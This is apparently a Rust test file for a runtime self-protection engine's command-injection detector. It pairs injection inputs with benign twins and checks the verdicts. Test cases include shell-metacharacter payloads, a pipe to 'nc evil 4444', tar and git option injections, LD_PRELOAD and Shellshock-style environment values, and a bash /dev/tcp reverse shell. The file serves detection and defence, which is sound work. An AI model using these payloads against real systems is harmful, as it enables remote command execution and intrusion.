//! Table-driven command injection tests: the argv the JVM passes (with `{}` where the input is
//! concatenated), the input, and the expected verdict. Every attack has a benign twin.

use rasp_engine::cmd::{detect, CmdRule, CommandLine};
use rasp_engine::input::{Input, InputSource};
use rasp_engine::{ContextLimits, RequestContext};

use CmdRule::{Env, Program, Shell, Unparsable};
const OPTION: CmdRule = CmdRule::Option;

fn ctx(input: &str) -> RequestContext {
    RequestContext::from_inputs(
        vec![
            Input::value(InputSource::Query, "q", input),
            Input::value(InputSource::Header, "Accept", "text/html,*/*;q=0.8"),
        ],
        ContextLimits::default(),
    )
}

fn argv(template: &[&str], input: &str) -> Vec<String> {
    template.iter().map(|a| a.replace("{}", input)).collect()
}

/// `Runtime.exec(String)`: the JVM splits on whitespace, no shell.
fn exec_string(template: &str, input: &str) -> Vec<String> {
    template
        .replace("{}", input)
        .split_whitespace()
        .map(str::to_owned)
        .collect()
}

/// Checks each `(template, input, want)`: the argv `build` makes of the template with the input
/// in it, under a request whose query parameter is the input, gets the verdict `want`.
fn assert_verdicts<T: ?Sized>(
    cases: &[(&T, &str, Option<CmdRule>)],
    build: fn(&T, &str) -> Vec<String>,
) {
    for (template, input, want) in cases {
        let cmd = CommandLine {
            argv: build(template, input),
            env: vec![],
        };
        let got = detect(&ctx(input), &cmd).map(|f| f.rule);
        assert_eq!(got, *want, "input {input:?} in {:?}", cmd.argv);
    }
}

#[test]
fn shell_scripts() {
    let sh = ["sh", "-c", "ping -c 1 {}"];
    let bash_q = ["/bin/bash", "-lc", "grep -- '{}' /var/log/app.log"];
    let bash_dq = ["bash", "-c", "echo \"{}\""];
    let cmd = ["cmd.exe", "/c", "dir {}"];
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        (&sh, "127.0.0.1; touch /tmp/pwned", Some(Shell)),
        (&sh, "127.0.0.1", None),
        (&sh, "127.0.0.1 && id", Some(Shell)),
        (&sh, "example.com", None),
        (&sh, "127.0.0.1 | nc evil 4444", Some(Shell)),
        (&sh, "$(id)", Some(Shell)),
        (&sh, "`id`", Some(Shell)),
        (&sh, "127.0.0.1\nid", Some(Shell)),
        (&sh, "127.0.0.1 > /tmp/out", Some(Shell)),
        (&sh, "x${IFS}-c${IFS}3", Some(Shell)),
        (&sh, "127.0.0.1 # comment", Some(Shell)),
        (&sh, "127.0.0.1 127.0.0.2", None),
        (&sh, "'", Some(Unparsable)),
        (&bash_q, "error'; id; echo '", Some(Shell)),
        (&bash_q, "error; not a command | still text", None),
        (&bash_q, "it's", Some(Unparsable)),
        (&bash_dq, "hello $(id)", Some(Shell)),
        (&bash_dq, "hello; world | 'quoted'", None),
        (&bash_dq, "price is $5", Some(Shell)),
        (&bash_dq, "price is 5 dollars", None),
        (&cmd, "C:\\ & calc", Some(Shell)),
        (&cmd, "C:\\Users", None),
    ];
    assert_verdicts(cases, argv);
}

#[test]
fn runtime_exec_string_is_not_a_shell() {
    let cases: &[(&str, &str, Option<CmdRule>)] = &[
        ("ping -c 1 {}", "127.0.0.1; touch /tmp/pwned", None),
        ("ping -c 1 {}", "127.0.0.1", None),
        ("{}", "touch /tmp/pwned", Some(Program)),
        ("{}", "ls", Some(Program)),
        ("/usr/bin/{} -l", "ls", None),
        ("{} -la /tmp", "/bin/ls", Some(Program)),
        ("ls -la {}", "/tmp/uploads", None),
    ];
    assert_verdicts(cases, exec_string);
}

#[test]
fn option_injection_into_dangerous_programs() {
    let cases: &[(&[&str], &str, Option<CmdRule>)] = &[
        (
            &["tar", "cf", "/tmp/a.tar", "{}"],
            "--checkpoint-action=exec=id",
            Some(OPTION),
        ),
        (&["tar", "cf", "/tmp/a.tar", "{}"], "reports/2024", None),
        (&["find", "/data", "-name", "{}"], "x -exec id ;", None),
        (&["find", "/data", "{}"], "-exec", Some(OPTION)),
        (
            &["git", "ls-remote", "{}"],
            "--upload-pack=touch /tmp/x",
            Some(OPTION),
        ),
        (
            &["git", "ls-remote", "{}"],
            "https://example.com/repo.git",
            None,
        ),
        (&["curl", "{}"], "-o/tmp/x.jsp", Some(OPTION)),
        (&["curl", "{}"], "https://example.com/a-b", None),
        (&["ping", "-c", "1", "{}"], "-f", None),
        (&["curl", "--silent", "{}"], "-", None),
        (&["curl", "--silent", "https://x.example/{}"], "--", None),
        (&["sh", "-c", "tar -cf /tmp/a.tar {}"], "-", None),
        (
            &["sh", "-c", "tar cf /tmp/a.tar {}"],
            "--to-command=id",
            Some(OPTION),
        ),
        (&["sh", "-c", "tar cf /tmp/a.tar {}"], "docs-v2", None),
    ];
    assert_verdicts(cases, argv);
}

#[test]
fn environment_of_the_child() {
    let cases: &[(&str, &str, Option<CmdRule>)] = &[
        ("LD_PRELOAD", "/tmp/evil.so", Some(Env)),
        ("GREETING", "/tmp/evil.so", None),
        ("BASH_ENV", "/tmp/x.sh", Some(Env)),
        ("USER_NAME", "() { :; }; touch /tmp/pwned", Some(Env)),
        ("USER_NAME", "alice (admin) {x}", None),
        ("PATH", "evil", Some(Env)),
        ("LANG", "evil", None),
    ];
    for (name, value, want) in cases {
        let cmd = CommandLine {
            argv: vec!["/usr/bin/env".into()],
            env: vec![
                ("HOME".into(), "/root".into()),
                (name.to_string(), value.to_string()),
            ],
        };
        let got = detect(&ctx(value), &cmd).map(|f| f.rule);
        assert_eq!(got, *want, "{name}={value:?}");
    }
}

#[test]
fn command_policy_applies_inside_and_outside_requests() {
    use rasp_engine::{Action, CommandSink, Engine, EngineConfig};
    let engine = Engine::new(EngineConfig::default());
    let empty = RequestContext::from_inputs(vec![], ContextLimits::default());
    let reverse = CommandLine {
        argv: argv(
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            "",
        ),
        env: vec![],
    };
    let verdict = engine.check_command(
        &empty,
        &CommandSink {
            api: 0,
            command: &reverse,
        },
    );
    assert_eq!(verdict.action, Action::Block);
    let event = verdict.event.expect("event");
    assert_eq!(event.rule_id, "cmdi.policy.reverse_shell");
    assert!(event.input.is_none(), "a policy finding names no input");

    let benign = CommandLine {
        argv: argv(&["bash", "-c", "tar -czf /backups/db.tgz /var/lib/db"], ""),
        env: vec![],
    };
    assert_eq!(
        engine
            .check_command(
                &empty,
                &CommandSink {
                    api: 0,
                    command: &benign
                }
            )
            .action,
        Action::Allow
    );

    // Inside a request, taint findings win and name the input.
    let in_request = ctx("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    let tainted = CommandLine {
        argv: argv(
            &["sh", "-c", "ping -c 1 {}"],
            "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        ),
        env: vec![],
    };
    let verdict = engine.check_command(
        &in_request,
        &CommandSink {
            api: 0,
            command: &tainted,
        },
    );
    assert_eq!(verdict.event.expect("event").rule_id, "cmdi.shell");
}

#[test]
fn a_route_segment_naming_the_program_is_not_a_program_injection() {
    let ctx = RequestContext::from_inputs(
        vec![
            Input::value(InputSource::Path, "segment[1]", "ls"),
            Input::value(InputSource::Query, "dir", "a/b"),
        ],
        ContextLimits::default(),
    );
    let cmd = CommandLine {
        argv: vec!["ls".into(), "a/b".into()],
        env: vec![],
    };
    assert_eq!(detect(&ctx, &cmd), None);
    // The same word from a query parameter does choose the program.
    let ctx = RequestContext::from_inputs(
        vec![Input::value(InputSource::Query, "tool", "ls")],
        ContextLimits::default(),
    );
    assert_eq!(detect(&ctx, &cmd).map(|f| f.rule), Some(Program));
}
